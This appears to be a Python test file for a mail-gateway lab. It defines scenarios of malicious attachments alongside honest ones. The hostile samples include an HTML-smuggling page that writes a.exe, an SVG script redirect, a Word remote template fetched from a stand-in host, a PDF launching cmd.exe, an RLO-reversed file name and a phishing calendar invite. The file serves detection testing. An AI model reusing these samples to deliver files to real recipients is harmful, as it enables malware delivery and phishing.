"""Mail whose harm is in what is attached; and honest mail with files of the same kinds.

In: `Stage`. Out: steps. Standard: RFC 2183 (file names), RFC 2045.
Not here: the files (`lab.parcels`), links (`lures`).
"""

from __future__ import annotations

from gatepost.lab import cast, parcels
from gatepost.lab.letters import File, compose_parts, hand_in
from gatepost.lab.scenario import Expected, Outcome, Scenario, Script, Stage, Step

ANY = (Outcome.ACCEPTED, Outcome.REFUSED)
HELD = ("quarantine", "reject")
STOPPED = ("tag", *HELD)
MALLORY = "mallory@freemail.example"
SAYS = "Dear customer,\n\nsee the attached file.\n"


def _with(name: str, media_type: str, octets: bytes, text: str = SAYS) -> Script:
    """A mail with one file, from a stranger whose address is proven."""

    def script(stage: Stage) -> tuple[Step, ...]:
        file = File(name=name, media_type=media_type, octets=octets)
        raw = compose_parts(stage, f"Mallory <{MALLORY}>", "Invoice", text=text, files=[file])
        signed = stage.internet.sign("freemail.example", raw, stage.now)
        return hand_in(stage, "mx.freemail.example", MALLORY, signed)

    return script


def _from_friend(*files: File, text: str = "Hello,\n\nhere are the files.\n\nAnn\n") -> Script:
    def script(stage: Stage) -> tuple[Step, ...]:
        raw = compose_parts(stage, "Ann <ann@friend.example>", "The files", text=text, files=files)
        signed = stage.internet.sign("friend.example", raw, stage.now)
        return hand_in(stage, "mail.friend.example", "ann@friend.example", signed)

    return script


def _bad(
    name: str, title: str, script: Script, *codes: str, why: str, actions: tuple[str, ...] = ("accept", *STOPPED)
) -> Scenario:
    expected = Expected(outcomes=ANY, actions=actions, codes=codes)
    return Scenario(name=name, title=title, good=False, source=cast.FREEMAIL, script=script, expected=expected, why=why)


def _honest(name: str, title: str, script: Script, why: str) -> Scenario:
    expected = Expected(outcomes=(Outcome.ACCEPTED,), actions=("accept",))
    return Scenario(name=name, title=title, good=True, source=cast.FRIEND, script=script, expected=expected, why=why)


_PAGE = b"<html><script>var b=new Blob([atob('TVqQAAMAAAAEAAAA')]);msSaveOrOpenBlob(b,'a.exe')</script></html>"
_PICTURE = b'<svg xmlns="http://www.w3.org/2000/svg"><script>location="http://host7.hoster.example/"</script></svg>'
_INVITE = (
    b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@hoster.example\r\n"
    b"SUMMARY:Account review\r\nDESCRIPTION:Sign in: http://192.0.2.66/login\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
_OCTETS = "application/octet-stream"

SCENARIOS: tuple[Scenario, ...] = (
    _bad(
        "test-virus",
        "EICAR's test file",
        _with("eicar.com", _OCTETS, parcels.TEST_VIRUS),
        "malware.found",
        actions=HELD,
        why="Every scanner must know it; we know it without one.",
    ),
    _bad(
        "program",
        "a program that calls itself a picture",
        _with("holiday.jpg", "image/jpeg", parcels.PROGRAM),
        "attachment.type-differs",
        actions=STOPPED,
        why="What a file is stands in its octets, not in its name.",
    ),
    _bad(
        "double-extension",
        "invoice.pdf.exe",
        _with("invoice.pdf.exe", _OCTETS, parcels.PROGRAM),
        "attachment.double-extension",
        actions=HELD,
        why="Windows hides the last part of the name.",
    ),
    _bad(
        "turned-name",
        "a name that is shown backwards",
        _with("invoice\u202efdp.exe", _OCTETS, parcels.PROGRAM),
        "attachment.direction-override",
        actions=HELD,
        why="A character in it turns the rest around: it reads invoiceexe.pdf.",
    ),
    _bad(
        "program-in-archive",
        "a program in an archive",
        _with("invoice.zip", "application/zip", parcels.archive({"invoice.exe": parcels.PROGRAM})),
        "attachment.program",
        actions=HELD,
        why="An archive is no disguise: it is opened.",
    ),
    _bad(
        "locked-archive",
        "an archive whose password stands in the mail",
        _with("invoice.zip", "application/zip", parcels.LOCKED, "The password is 4711.\n"),
        "attachment.password-in-text",
        actions=HELD,
        why="The lock is there to keep scanners out, not strangers; we use the key.",
    ),
    _bad(
        "bomb",
        "an archive that wants to become 400 megabytes",
        _with("report.zip", "application/zip", parcels.bomb()),
        "content.bomb",
        why="It is let go of at the limit, in a process of its own, and the mail still gets its verdict.",
    ),
    _bad(
        "shortcut",
        "a shortcut to a command",
        _with("invoice.lnk", _OCTETS, parcels.SHORTCUT),
        "attachment.shortcut",
        actions=STOPPED,
        why="A click runs whatever it says.",
    ),
    _bad(
        "disk-image",
        "an image of a disk",
        _with("documents.iso", _OCTETS, parcels.DISK),
        "attachment.disk-image",
        why="What is inside loses its mark of coming from the network.",
    ),
    _bad(
        "page-that-builds-a-file",
        "a page that builds its file on the reader's machine",
        _with("fax.html", "text/html", _PAGE),
        "attachment.html-smuggling",
        actions=STOPPED,
        why="No scanner on the way sees the file, because it is not there yet.",
    ),
    _bad(
        "picture-with-program",
        "a picture with a program in it",
        _with("logo.svg", "image/svg+xml", _PICTURE),
        "attachment.svg-script",
        why="SVG is a page, too, and runs scripts.",
    ),
    _bad(
        "remote-template",
        "a Word document that fetches its template from a stranger",
        _with("offer.docx", _OCTETS, parcels.word_document("Offer", "http://host7.hoster.example/t.dotm")),
        "attachment.remote-template",
        actions=STOPPED,
        why="The macros come later, from there.",
    ),
    _bad(
        "pdf-action",
        "a PDF that starts something when it is opened",
        _with("offer.pdf", "application/pdf", parcels.pdf("Offer", "<< /S /Launch /F (cmd.exe) >>")),
        "attachment.pdf-launch",
        actions=STOPPED,
        why="A page to read has nothing to start.",
    ),
    _bad(
        "invitation",
        "an invitation with a bad link in it",
        _with("invite.ics", "text/calendar", _INVITE),
        "link.ip-host",
        why="Calendars show links, too.",
    ),
    _honest(
        "honest-documents",
        "a document, a PDF and a picture from a friend",
        _from_friend(
            File(name="minutes.docx", media_type=_OCTETS, octets=parcels.word_document("Minutes of the meeting")),
            File(name="plan.pdf", media_type="application/pdf", octets=parcels.pdf("The plan")),
        ),
        "Files are what mail is for.",
    ),
    _honest(
        "honest-archive",
        "an archive of texts from a friend",
        _from_friend(
            File(
                name="notes.zip",
                media_type="application/zip",
                octets=parcels.archive({"notes.txt": b"milk, bread\n", "more/plan.csv": b"a;b\n1;2\n"}),
            )
        ),
        "It is opened, and there is nothing in it to fear.",
    ),
)
